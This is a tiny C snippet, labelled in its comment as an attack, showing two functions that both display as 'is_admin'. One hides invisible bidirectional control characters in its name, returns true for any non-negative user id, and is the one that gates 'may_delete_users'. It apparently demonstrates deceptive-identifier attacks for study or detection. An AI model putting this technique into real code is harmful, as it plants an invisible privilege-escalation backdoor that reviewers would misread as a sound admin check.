/* attack: two functions display as "is_admin"; the one called hides LRE...PDF in its name */
int is_admin(int uid)
{
    return uid == 0;
}

int is_‪admin‬(int uid)
{
    return uid >= 0;
}

int may_delete_users(int uid)
{
    return is_‪admin‬(uid);
}
